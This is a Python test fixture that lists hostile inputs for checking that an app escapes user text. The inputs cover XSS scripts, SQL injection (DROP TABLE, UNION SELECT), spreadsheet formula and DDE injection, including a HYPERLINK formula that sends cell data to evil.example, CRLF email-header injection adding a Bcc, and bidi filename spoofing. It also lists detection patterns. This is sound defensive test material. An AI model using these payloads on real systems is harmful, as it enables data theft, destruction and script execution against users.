"""One table of hostile strings (issue 16): what a resident, an admin or a moderator may type,
aimed at the console (XSS), the database (SQL), spreadsheets (formula injection), email
headers (CRLF), readers (bidi overrides), C strings (NUL) and sizes (a 1 MB line). The scripts
set ``window.__pwned`` so that a browser test can tell that one ran."""

from __future__ import annotations

PAYLOADS: dict[str, str] = {
    "script": "<script>window.__pwned=1;alert(1)</script>",
    "attribute": '"><img src=x onerror="window.__pwned=1;alert(1)">',
    "svg": "'><svg/onload=window.__pwned=1>",
    "javascript_link": "javascript:window.__pwned=1;alert(1)//",
    "template": "{{7*7}} ${7*7} {% raw %}",
    "sql": "'; DROP TABLE contributions; --",
    "sql_union": "1' OR '1'='1' UNION SELECT address_encrypted FROM contributors --",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "crlf": "des bancs\r\nBcc: x@evil.example\r\nX-Injected: 1",
    "bidi": "des bancs \u202egnp.exe\u202c \u2066fin\u2069",
    "nul": "des\x00 bancs",
}
# Too long for any webhook (over MAX_WEBHOOK_BYTES): checked where text is typed in a page or
# collected by an agent.
MEGABYTE_LINE = "A" * 1_000_000

# What must never appear unescaped in a page.
MARKUP = ("<script>window.__pwned", "<img src=x onerror", "<svg/onload")
# The first characters a spreadsheet reads as a formula (OWASP: CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
